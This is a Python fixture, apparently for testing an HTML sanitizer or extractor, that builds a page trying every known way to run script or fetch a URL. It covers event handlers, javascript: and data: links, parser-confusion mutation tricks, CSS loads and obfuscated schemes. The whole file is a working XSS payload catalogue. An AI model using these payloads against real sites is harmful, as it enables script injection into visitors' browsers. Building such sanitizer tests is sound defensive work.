"""A page that tries to run a script, or to send a request, by each way that is known."""


def attack(to: str) -> str:
    """Return the page; a script that runs sets ``hacked``, requests go ``to`` an address."""
    js = f"top.hacked=1;parent.hacked=1;window.hacked=1;new Image().src='{to}/script'"
    return f"""<!DOCTYPE html><html manifest="{to}/manifest"><head>
<meta http-equiv=refresh content="0;url={to}/refresh"><base href="{to}/base/" target=_top>
<link rel=stylesheet href={to}/sheet><link rel=preload as=style href={to}/preload>
<link rel=prefetch href={to}/prefetch><link rel=icon href={to}/icon><link rel=preconnect href={to}>
<link rel=import href={to}/import><link rel=modulepreload href={to}/modulepreload>
<script>{js}</script><script src={to}/external></script>
<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{to}/speculation"]}}]}}</script>
<style>@import "{to}/css-import"; body{{background:url({to}/css-url)}}
@font-face{{font-family:x;src:url({to}/font)}} p{{font-family:x;cursor:url({to}/cursor),auto}}
h1::before{{content:url({to}/content)}} li{{list-style-image:url({to}/bullet)}}</style>
<title></script><script>{js}</script><img src=x onerror="{js}"></title></head>
<body onload="{js}" background={to}/background onpageshow="{js}">
<h1 onmouseover="{js}" onclick="{js}">A headline of some words, the title of it all</h1>
<p>{"Running text of a story that goes on for a while, so that it is taken for content. " * 8}
<meta http-equiv=refresh content="0;url={to}/refresh-in-body"><base href="{to}/base-in-body/" target=_top>
<svg><p><meta http-equiv="&#82;efresh" content="0;url={to}/refresh-in-svg"></svg>
<p title='"><script>{js}</script>'>"&lt;/script>&lt;script>{js}&lt;/script>
&amp;lt;img src=x onerror={js}&amp;gt;
<img src={to}/image onerror="{js}"><img src=x srcset="{to}/srcset 1x" onerror="{js}">
<picture><source srcset={to}/source><img src={to}/picture></picture>
<video src={to}/video poster={to}/poster autoplay></video><audio src={to}/audio autoplay></audio>
<iframe src="javascript:{js}"></iframe><iframe src={to}/frame></iframe>
<iframe srcdoc="<script>{js}</script>"></iframe>
<object data={to}/object></object><embed src={to}/embed><applet code={to}/applet></applet>
<a id=link href={to}/link target=_top>a link</a> <a id=js href="javascript:{js}">another</a>
<a href="jav&#x09;ascript:{js}">third</a>
<form id=form action={to}/form method=post><input name=q value=1>
<input type=image src={to}/input formaction="javascript:{js}">
<button id=send>Send</button></form><isindex action={to}/isindex>
<svg onload="{js}"><script>{js}</script><image href={to}/svg-image /><use href="{to}/use#x"/>
<a href="javascript:{js}"><text>x</text></a>
<animate attributeName=href values="javascript:{js}"/><foreignObject><script>{js}</script></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror={js}&gt;"></table></mtext></math>
<details open ontoggle="{js}"><summary>x</summary></details><marquee onstart="{js}">x</marquee>
<input autofocus onfocus="{js}"><table background={to}/table><tr><td>x</table><body onresize="{js}">
<noscript><p title="</noscript><img src=x onerror={js}>"></noscript><template><script>{js}</script></template>
<div data-node='0"><script>{js}</script>' data-denoise="</style><script>{js}</script>">words</div>
<style></style><script>{js}</script></style><textarea></textarea><script>{js}</script></textarea><xmp></xmp>
<script>{js}</script>
<link rel="stylesheet preconnect dns-prefetch" href={to}/relations><link rel=dns-prefetch href={to}>
<link rel=prerender href={to}/prerender><link rel=manifest href={to}/web-manifest>
<link rel="alternate stylesheet" href={to}/alternate>
<link rel=stylesheet href="data:text/css,@import '{to}/data-sheet'">
<meta http-equiv=Content-Security-Policy content="default-src * 'unsafe-inline'; report-uri {to}/report">
<meta http-equiv=Link content="<{to}/meta-link>; rel=stylesheet"><meta name=referrer content=unsafe-url>
<!--[if gte IE 4]><script>{js}</script><![endif]--><?xml-stylesheet href="{to}/instruction"?>
<![CDATA[<script>{js}</script>]]>
<p style="background:u\\72l({to}/escaped);background-image:image-set('{to}/image-set'
1x);filter:url({to}/filter#x)">x</p>
<p style="behavior:url({to}/behavior);-moz-binding:url({to}/binding);width:expression({js})">x</p>
<p style="animation:spin 1s" onanimationstart="{js}" contenteditable onbeforeinput="{js}">x</p>
<style>@keyframes spin{{from{{background:url({to}/keyframe)}}}} @namespace url({to}/namespace);
a:visited{{color:red}} p:hover{{background:url({to}/hover)}}
@font-face{{font-family:y;src:local(y),url({to}/font-2)}}
html{{font-family:y}} @property --x{{syntax:"<url>";inherits:true;initial-value:url({to}/property)}}</style>
<img lowsrc={to}/low dynsrc={to}/dynamic attributionsrc={to}/attribution
src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>
<a ping={to}/ping attributionsrc={to}/source href={to}/pinged>x</a><bgsound src={to}/sound>
<a href="data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkPTE8L3NjcmlwdD4=">x</a><a href="vbscript:x">x</a>
<a href="jAvAsCrIpT&colon;{js}">x</a><a href="&#1;javascript&#58;{js}">x</a><a href="blob:null/x">x</a>
<a href="feed:javascript:{js}" download={to}/download>x</a><area href="javascript:{js}">
<svg><feImage href={to}/fe-image /><a xlink:href="javascript:{js}"><text>x</text></a>
<set attributeName=onmouseover to="{js}" /><animate attributeName=onclick values="{js}" onbegin="{js}" />
<style>@import "{to}/svg-import";</style><script href={to}/svg-script /><script xlink:href={to}/svg-xlink />
<use xlink:href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PnRvcC5oYWNrZWQ9MTwvc2NyaXB0Pjwvc3ZnPg==#x" />
<rect filter="url({to}/svg-filter#x)" fill="url({to}/svg-fill#x)" width=9 height=9 /></svg>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>">
<object type=text/html data="data:text/html,<script>{js}</script>"><param name=src value={to}/param></object>
<video><source src={to}/film onerror="{js}"><track default src={to}/track></video>
<frameset onload="{js}"><frame src={to}/frame-of-set></frameset><portal src={to}/portal></portal>
<fencedframe src={to}/fenced></fencedframe><iframe src={to}/lazy loading=eager name="{js}"></iframe>
<div><template shadowrootmode=open><script>{js}</script><img src={to}/shadow onerror="{js}"></template></div>
<button popovertarget=pop>x</button><p id=pop popover onbeforetoggle="{js}" ontoggle="{js}">x</p>
<x-y onfocusin="{js}" tabindex=1 autofocus>x</x-y><input type=image src={to}/input-2 onload="{js}">
<form action="javascript:{js}"><math><mtext></form><form><mglyph><style></math><img src onerror="{js}"></style>
</form>
<svg></p><style><a id="</style><img src=1 onerror='{js}'>"></style></svg>
<noscript><style></noscript><img src=x onerror="{js}"></style></noscript>
<noembed><a title="</noembed><img src=x onerror='{js}'>">x</a></noembed><select><svg><script>{js}</script></svg>
</select>
<option><style></option></select><img src=x onerror="{js}"></style></option>
<p data-x='"><script>{js}</script>' lang='en"><script>{js}
</script>' id='x"onmouseover="{js}' class="x' onload='{js}">x</p>
<p title="&quot;&gt;&lt;script&gt;{js}&lt;/script&gt;">&#60;script&#62;{js}&#60;/script&#62;</p>
<script type=module>{js}</script><script type=importmap>{{"imports":{{"x":"{to}/map"}}}}</script>
<p xmlns:x="javascript:{js}" x:href="javascript:{js}" on{chr(0)}click="{js}" onclick{chr(11)}="{js}" /
onclick={js}>x</p>
"""
